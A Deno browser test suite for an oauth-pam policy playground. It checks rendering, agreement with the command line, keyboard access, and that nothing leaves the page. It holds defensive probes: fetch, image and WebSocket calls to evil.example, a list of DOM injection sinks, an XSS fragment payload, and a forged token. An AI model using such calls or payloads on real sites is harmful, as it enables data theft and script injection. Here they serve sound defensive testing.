/**
 * The playground in a browser, opened from disk: how it looks, that it says what the command line
 * says, that nothing leaves it, and that hands which have only a keyboard reach everything.
 *
 * @module
 */
import assert from "node:assert/strict";
import { cli } from "../support/cli.ts";
import { type BrowserPage, startBrowser } from "../support/page_check.ts";
import { playgroundHere } from "../support/playground.ts";
import {
  filesOf,
  HOSTILE,
  idle,
  inflated,
  jsonIn,
  MARKUP,
  opened,
  put,
  putAll,
  sameFindings,
  shared,
  show,
  silent,
  STATUS,
  textOf,
} from "../support/playground_page.ts";

const POLICIES = new URL("../../policies/", import.meta.url).pathname;
const SHIPPED = [...Deno.readDirSync(POLICIES)]
  .map(({ name }) => name)
  .filter((name) => /^[^.]+\.yaml$/.test(name)).sort();
const TABS = ["findings", "explain", "who", "tests", "compare", "import"];
const NOW = "2026-01-01T12:00:00Z";

/** Fields for code scroll, also sideways: YAML that wraps cannot be read. */
const EXPECTED = { scrolls: ["#editor", "textarea"] };

/** What makes markup, code or a worker of a text. */
const WAYS = [
  `document.body.innerHTML = "<b>"`,
  `document.body.lastElementChild.outerHTML = "<b>"`,
  `document.body.insertAdjacentHTML("beforeend", "<b>")`,
  `document.createRange().createContextualFragment("<b>")`,
  `new DOMParser().parseFromString("<b>", "text/html")`,
  `document.createElement("iframe").srcdoc = "<b>"`,
  `document.createElement("script").text = "1"`,
  `document.createElement("script").src = "x"`,
  `document.createElement("i").setAttribute("onclick", "1")`,
  `new Worker("data:text/javascript,1")`,
  `new Worker(URL.createObjectURL(new Blob(["1"])))`,
  `eval("1")`,
  `new Function("1")`,
  `setTimeout("1")`,
  // nor does anybody make a policy that would let it, or another of the same name
  `trustedTypes.createPolicy("default", { createHTML: (text) => text })`,
  `trustedTypes.createPolicy("oauth-pam-worker", { createScriptURL: (text) => text })`,
  `document.write("<b>")`,
];

/** {"iss":"https://login.example.edu","sub":"u1"}, and a signature of nothing. */
const TOKEN = [
  { alg: "RS256", typ: "JWT" },
  { iss: "https://login.example.edu", sub: "u1", groups: [MARKUP[1]] },
].map((part) =>
  btoa(JSON.stringify(part)).replaceAll("=", "").replaceAll("+", "-")
    .replaceAll("/", "_")
).join(".") + ".c2VjcmV0LXNpZ25hdHVyZQ";

Deno.test("the playground in a browser", async (t) => {
  const folder = await Deno.makeTempDir({ prefix: "oauth-pam-playground-" });
  const path = `${folder}/playground.html`;
  try {
    await Deno.writeTextFile(path, await playgroundHere());
    await using browser = await startBrowser();
    const start = (fragment = "") =>
      opened(browser, `file://${path}${fragment}`);
    await t.step("how each tab looks, and what Tab reaches in it", async () => {
      await using page = await start();
      await put(page, "explain-account", "alice");
      await put(page, "explain-claims", claimsFor("https://login.example.com"));
      await put(
        page,
        "old-text",
        await Deno.readTextFile(`${POLICIES}okta.yaml`),
      );
      await put(
        page,
        "import-line",
        "issuer=https://login.example.edu aud=ssh",
      );
      for (const tab of TABS) {
        await show(page, tab);
        const faults = await page.check(EXPECTED);
        // lines of the policy, to which a handler leads
        const wrong = faults.filter(({ kind, what }) =>
          kind !== "link" || !/"#L\d+"$/.test(what)
        );
        assert.deepEqual(wrong, [], tab);
        assert.deepEqual(await page.keyboard(), [], tab);
      }
      assert.deepEqual(await page.moving(), []);
      await silent(page, path);
    });
    await t.step(
      "every shipped policy: findings, decision and diff of the command line",
      async () => {
        await using page = await start();
        const decisions = new Set<string>();
        for (const name of SHIPPED) {
          decisions.add(await asCommandLine(page, name));
        }
        assert.deepEqual([...decisions].sort(), ["allow", "deny"]);
        await silent(page, path);
      },
    );
    await t.step(
      "a policy with faults: the findings of the command line",
      async () => {
        await using page = await start();
        const policy = HOSTILE.replace("description", "descripton").replace(
          "audiences",
          "audience",
        );
        await put(page, "policy-text", policy);
        await sameFindings(page, { policy, tests: "" });
        // each leads to its place
        await page.click("#findings button");
        assert.equal(
          await page.evaluate("document.activeElement.id"),
          "policy-text",
        );
      },
    );
    await t.step("hostile text stays text", async () => {
      await using page = await start();
      await put(page, "policy-text", HOSTILE);
      await put(page, "explain-account", "deploy");
      await put(
        page,
        "explain-claims",
        JSON.stringify({
          iss: "https://login.example.edu",
          sub: "u1",
          groups: MARKUP,
        }),
      );
      await put(
        page,
        "tests-text",
        `tests:\n  - name: ${
          JSON.stringify(MARKUP.join())
        }\n    account: x\n    expect: deny\n`,
      );
      await put(
        page,
        "old-text",
        HOSTILE.replace("staff:", "others:").replace(
          "https://login",
          "https://old",
        ),
      );
      await put(
        page,
        "import-line",
        `issuer=https://x.example aud=${MARKUP[1]?.replaceAll(" ", "")}`,
      );
      const elements = () =>
        page.evaluate<number>(
          `document.querySelectorAll("img, iframe, object, embed, [onerror], [onload], main script, main style, a[href^='javascript:' i]").length`,
        );
      const shown: string[] = [];
      for (const tab of TABS) {
        await show(page, tab);
        assert.equal(await elements(), 0, tab);
        shown.push(await page.evaluate<string>("document.body.innerText"));
      }
      for (const word of MARKUP) {
        const written = JSON.stringify(word).slice(1, -1);
        assert.ok(
          shown.some((text) => text.includes(word) || text.includes(written)),
          word,
        );
      }
      await silent(page, path);
    });
    await t.step("a token is decoded, marked, and goes nowhere", async () => {
      await using page = await start();
      await put(page, "policy-text", HOSTILE);
      await show(page, "explain");
      await page.click("#evidence-token");
      await put(page, "explain-account", "deploy");
      await put(page, "explain-token", TOKEN);
      const said = await textOf(page, "explained");
      assert.match(said, /not verified/);
      assert.match(said, /"sub": "u1"/);
      assert.match(
        await textOf(page, "status"),
        /^allow: .*if the token is genuine$/,
      );
      const link = await shared(page, { claims: false });
      const [, fragment = ""] = link.split("#");
      assert.ok(!(await inflated(fragment)).includes(TOKEN.slice(0, 20)));
      assert.deepEqual(
        await page.evaluate(
          "[localStorage.length, sessionStorage.length, document.cookie, location.hash]",
        ),
        [0, 0, "", ""],
      );
      await silent(page, path);
      // nor could a script of the page send it
      const ways = await page.evaluate<string[]>(`(async () => {
        const open = [];
        await fetch("https://evil.example/?" + 1).then(() => open.push("fetch"), () => {});
        await new Promise((settle) => {
          const image = new Image();
          image.onload = () => { open.push("image"); settle(); };
          image.onerror = settle;
          image.src = "https://evil.example/pixel";
        });
        try { new WebSocket("wss://evil.example"); } catch { return open; }
        return open;
      })()`);
      assert.deepEqual(ways, []);
      assert.deepEqual((await page.events()).connections, []);
    });
    await t.step("map files are asked for, and kept out of links", async () => {
      await using page = await start();
      const paths = ["/etc/oauth-pam/<b>&map", `/etc/${"m".repeat(200)}`];
      const policy = HOSTILE.replace(
        "accounts: [{names: [deploy]}]",
        `accounts: [${
          paths.map((path) =>
            `{map_file: ${JSON.stringify(path)}, keys: [sub]}`
          ).join()
        }]`,
      );
      const claims = JSON.stringify({
        iss: "https://login.example.edu",
        sub: "u1",
        groups: [MARKUP[0]],
      });
      await putAll(page, {
        "policy-text": policy,
        "explain-account": "deploy",
        "explain-claims": claims,
        "explain-time": NOW,
      });
      await show(page, "explain");
      const fields = await mapFields(page);
      assert.deepEqual(fields.map(({ path }) => path), paths);
      assert.match(
        await textOf(page, "status"),
        /^no answer: the policy reads the map file .*: paste what is in it/,
      );
      const [first = "", second = ""] = fields.map(({ id }) => id);
      const decisions: string[] = [];
      for (
        const [one, other] of [
          ["u1 deploy\n", "\n"],
          ["u2 deploy\n", "# u1 deploy\n"],
          ["\n", "u2 x\nu1 x,deploy # y\n"],
        ] as const
      ) {
        await putAll(page, { [first]: one, [second]: other });
        const { stdout } = await cli(
          [
            ...["policy", "explain", "policy.yaml", "--account", "deploy"],
            ...["--claims", "-", "--now", NOW, "--format", "json"],
          ],
          {
            stdin: claims,
            files: {
              "policy.yaml": policy,
              [paths[0] ?? ""]: one,
              [paths[1] ?? ""]: other,
            },
          },
        );
        const answer = await jsonIn(page, "explained");
        assert.deepEqual(answer, JSON.parse(stdout));
        decisions.push((answer as { decision: string }).decision);
      }
      assert.deepEqual(decisions, ["allow", "deny", "allow"]);
      const wrong = await page.check(EXPECTED);
      assert.deepEqual(wrong, []);
      assert.deepEqual(await page.keyboard(), []);
      // while another word is typed, or none that can be read, nothing pasted is lost
      for (const other of ["version: 1\nrules: [", HOSTILE]) {
        await put(page, "policy-text", other);
        await put(page, "policy-text", policy);
        assert.match(await textOf(page, "status"), /^allow/);
      }
      await page.evaluate(
        `document.getElementById("share-claims").checked = true`,
      );
      const link = await shared(page, { claims: true });
      const carried = await inflated(link.split("#")[1] ?? "");
      assert.ok(carried.includes("u1") && !carried.includes("u2 x"), carried);
      await silent(page, path);
    });
    await t.step("no text becomes markup, script or a worker", async () => {
      await using page = await start();
      assert.deepEqual(await waysIn(page), []);
      assert.equal(
        await page.evaluate("trustedTypes.defaultPolicy === null"),
        true,
      );
      // it says so for each, and works as before: workers answer, and the report's sections are drawn
      const { console, errors } = await page.events();
      assert.ok(console.length >= WAYS.length, console.join("\n"));
      assert.deepEqual(errors, []);
      await putAll(page, { "policy-text": HOSTILE, "tests-text": "" });
      await sameFindings(page, { policy: HOSTILE, tests: "" });
      await show(page, "who");
      assert.deepEqual(
        await page.evaluate(`[
          document.querySelector("#who svg rect") instanceof SVGRectElement,
          document.querySelector("#who table td").dataset.label,
          document.querySelector("#who .link").textContent,
        ]`),
        [true, "account", "staff"],
      );
      // without Trusted Types all but a few would do something
      const loose = `${folder}/loose.html`;
      await Deno.writeTextFile(
        loose,
        (await Deno.readTextFile(path))
          .replace(/ require-trusted-types-for [^;]*;/, "")
          .replace(/ trusted-types [^;]*;/, ""),
      );
      await using other = await opened(browser, `file://${loose}`);
      assert.deepEqual(
        await waysIn(other),
        WAYS.filter((way) => !/^(?:eval|new Function)/.test(way)),
      );
    });
    await t.step("a link carries 64 kB there and back", async () => {
      const lines = Array.from(
        { length: 1_300 },
        (_, index) => `# ${index * 7919} ${crypto.randomUUID()} é`,
      );
      const policy = `${HOSTILE}${lines.join("\n")}\n`;
      assert.ok(policy.length > 64_000);
      await using page = await start();
      await put(page, "policy-text", policy);
      const link = await shared(page, { claims: false });
      await using other = await opened(browser, link);
      assert.deepEqual(
        JSON.parse(await inflated(link.split("#")[1] ?? "")).policy,
        policy,
      );
      assert.equal(await shared(other, { claims: false }), link);
      await sameFindings(other, {
        policy,
        tests: JSON.parse(await inflated(link.split("#")[1] ?? "")).tests,
      });
      const { requests } = await other.events();
      assert.deepEqual(
        requests.slice(1).filter((url) => !url.startsWith("blob:null/")),
        [],
      );
    });
    await t.step("a damaged link says so, and the page works", async () => {
      await using page = await start();
      await put(page, "policy-text", HOSTILE);
      const link = await shared(page, { claims: false });
      for (
        const [fragment, says] of [
          ["AAAA", /the link is (?:damaged|not one of this page)/],
          ["%3Cimg%20src=x%20onerror=alert(1)%3E", /the link is damaged/],
          [(link.split("#")[1] ?? "").slice(0, -9), /the link is damaged/],
          [`${link.split("#")[1]}AAAA`, /the link is damaged/],
        ] as const
      ) {
        await using other = await browser.open(`file://${path}#${fragment}`);
        await other.until(`${STATUS}.textContent !== ""`);
        await idle(other);
        assert.match(await textOf(other, "status"), says);
        await put(other, "policy-text", HOSTILE);
        await sameFindings(other, { policy: HOSTILE, tests: "" });
        assert.deepEqual((await other.events()).errors, []);
      }
    });
    await t.step(
      "the keyboard alone, from the field for the policy to each answer",
      async () => {
        await using page = await start();
        await page.until(
          `document.getElementById("example").options.length > 5`,
        );
        const at = () => page.evaluate<string>("document.activeElement.id");
        const tabTo = async (matches: (id: string) => boolean) => {
          for (let step = 0; step < 20; step++) {
            await page.press("Tab");
            if (matches(await at())) return;
          }
          assert.fail(`Tab does not get there, but to ${await at()}`);
        };
        await tabTo((id) => id === "policy-text");
        await page.press("Control+a");
        await page.type(HOSTILE);
        await tabTo((id) => id.startsWith("tab-"));
        assert.equal(await at(), "tab-findings");
        await idle(page);
        assert.match(
          await textOf(page, "findings"),
          /Nothing was found|level|warning/,
        );
        for (const [index, tab] of TABS.entries()) {
          if (index > 0) await page.press("ArrowRight");
          assert.equal(await at(), `tab-${tab}`);
          await idle(page);
          assert.ok(
            await page.evaluate(
              `!document.getElementById("panel-${tab}").hidden`,
            ),
          );
        }
        await page.press("Home");
        await page.press("ArrowRight");
        await tabTo((id) => id === "explain-account");
        await page.type("deploy");
        await tabTo((id) => id === "explain-claims");
        await page.type(
          JSON.stringify({
            iss: "https://login.example.edu",
            sub: "u1",
            groups: [MARKUP[0]],
          }),
        );
        await idle(page);
        assert.match(await textOf(page, "status"), /^allow/);
      },
    );
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
});

/** The fields for map files, and of which file each is. */
async function mapFields(
  page: BrowserPage,
): Promise<{ id: string; path: string }[]> {
  return await page.evaluate(`[
    ...document.querySelectorAll("#explain-maps label")
  ].map((label) => ({
    id: label.control.id,
    path: label.textContent.replace("Map file ", ""),
  }))`);
}

/** Those of the ways that the page does not refuse. */
async function waysIn(page: BrowserPage): Promise<string[]> {
  const ways = WAYS.map((way) => `[${JSON.stringify(way)}, () => { ${way}; }]`);
  return await page.evaluate(`[${ways}].flatMap(([way, act]) => {
    try {
      act();
      return [way];
    } catch (error) {
      // any other is a fault of this test
      if (error instanceof TypeError || error instanceof EvalError) return [];
      return [way + ": " + error];
    }
  })`);
}

function claimsFor(issuer: string): string {
  return JSON.stringify({
    iss: issuer,
    sub: "u1",
    email: "alice@example.com",
    email_verified: true,
    preferred_username: "alice",
    groups: ["employees", "ssh"],
  });
}

/** Puts the same to both, and says how it was decided. */
async function asCommandLine(page: BrowserPage, name: string): Promise<string> {
  const policy = await Deno.readTextFile(`${POLICIES}${name}`);
  const tests = await Deno.readTextFile(
    `${POLICIES}${name.replace(".yaml", ".test.yaml")}`,
  );
  await page.evaluate(`(() => {
    const list = document.getElementById("example");
    list.value = ${JSON.stringify(name.replace(".yaml", ""))};
    list.dispatchEvent(new Event("change"));
  })()`);
  await idle(page);
  await sameFindings(page, { policy, tests });
  const issuer = /issuer: (https:\S+)/.exec(policy)?.[1] ?? "";
  const claims = claimsFor(issuer);
  const old = policy.replace(
    "\nrules:\n",
    "\nrules:\n  test:\n    when: { groups: { any: [x] } }\n    accounts: [{ names: [extra] }]\n",
  );
  await putAll(page, {
    "explain-account": "alice",
    "explain-rhost": "10.1.2.3",
    "explain-time": NOW,
    "explain-claims": claims,
    "old-text": old,
  });
  await show(page, "explain");
  const maps = await mapFields(page);
  const map = "u1 alice\nalice@example.com alice\nalice alice,deploy\n";
  await putAll(page, Object.fromEntries(maps.map(({ id }) => [id, map])));
  const explained = await cli(
    [
      ...["policy", "explain", "policy.yaml", "--account", "alice"],
      ...["--rhost", "10.1.2.3", "--now", NOW, "--claims", "-"],
      ...["--service", "sshd", "--format", "json"],
    ],
    {
      files: {
        ...filesOf({ policy, tests }),
        ...Object.fromEntries(maps.map(({ path }) => [path, map])),
      },
      stdin: claims,
    },
  );
  const decided = await jsonIn(page, "explained");
  if (decided === null) assert.equal(explained.code, 3, name);
  else assert.deepEqual(decided, JSON.parse(explained.stdout), name);
  await show(page, "compare");
  const compared = await cli(
    ["policy", "diff", "old.yaml", "policy.yaml", "--format", "json"],
    { files: { ...filesOf({ policy, tests }), "old.yaml": old } },
  );
  assert.deepEqual(
    await jsonIn(page, "compared"),
    JSON.parse(compared.stdout),
    name,
  );
  return decided === null ? "none" : (decided as { decision: string }).decision;
}
